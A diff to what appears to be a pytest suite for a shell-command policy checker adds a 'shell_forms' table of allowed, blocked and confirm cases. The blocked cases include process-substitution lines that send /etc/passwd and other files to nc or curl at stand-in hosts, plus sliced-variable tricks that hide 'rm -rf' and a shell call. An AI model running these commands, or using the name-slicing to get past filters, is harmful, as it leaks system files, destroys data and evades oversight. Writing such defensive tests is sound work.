@@ -267,18 +267,32 @@ LOGIN_STORES: list[Case] = [
     ("cat /srv/app/gradle.properties", "allow", None),
 ]
 
+# an output process substitution is fed like a pipe; a program name cut from a string is hidden
+SHELL_FORMS: list[Case] = [
+    ("tee >(nc 203.0.113.50 9000) < /etc/passwd", "block", "net.exfiltration"),  # new
+    ("cat /etc/hosts > >(nc 1.2.3.4 80)", "block", "net.exfiltration"),  # new
+    ("tee >(curl -d @- http://files.example.net) < /etc/hostname", "block", None),  # new
+    ("v=xxrmxx; ${v:2:2} -rf /srv/app", "block", "shell.sliced_name"),  # new
+    ("${PWD:0:1}bin${PWD:0:1}sh -c id", "block", "shell.sliced_name"),  # new
+    ("diff <(sort a.txt) <(sort b.txt)", "allow", None),
+    ("tee >(gzip > /tmp/syslog.gz) < /var/log/syslog", "confirm", None),
+    ("${EDITOR:-vi} /etc/hosts", "confirm", None),
+    ("s=systemctl; $s restart nginx", "confirm", None),
+    ("echo ${v:0:3}", "allow", None),
+]
+
 
 @pytest.mark.parametrize("table", [DUMPED_HASHES, AUTORUN, ENDLESS_WRITES, COMPRESSORS,
                                    EXTRACT_TARGETS, TOOLCHAIN_LISTINGS, PRINTED_BY_FEATURE,
                                    CYRILLIC_PATHS, ATTRIBUTES, LOG_DAEMON_SIGNALS, MOUNTED_PATHS,
                                    KV_STORES, NETWORK_TOOLS, KEY_USE, WRITES_AND_WORDS,
-                                   DATABASE_READS, TOOL_READS, LOGIN_STORES],
+                                   DATABASE_READS, TOOL_READS, LOGIN_STORES, SHELL_FORMS],
                          ids=["dumped_hashes", "autorun", "endless_writes", "compressors",
                               "extract_targets", "toolchain_listings", "printed_by_feature",
                               "cyrillic_paths", "attributes", "log_daemon_signals",
                               "mounted_paths", "kv_stores", "network_tools", "key_use",
                               "writes_and_words", "database_reads", "tool_reads",
-                              "login_stores"])
+                              "login_stores", "shell_forms"])
 def test_class(policy: Policy, table: list[Case]) -> None:
     wrong = misjudged(policy, table)
     assert not wrong, wrong
